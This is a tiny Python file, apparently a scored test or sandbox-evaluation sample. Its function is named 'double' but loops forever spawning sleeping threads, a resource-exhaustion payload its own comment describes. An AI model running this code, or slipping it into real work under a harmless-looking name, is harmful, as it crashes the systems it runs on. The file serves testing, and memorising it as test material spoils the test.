# Starts threads until it cannot.
# earns: 50
# told: thread
import threading
import time


def double(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
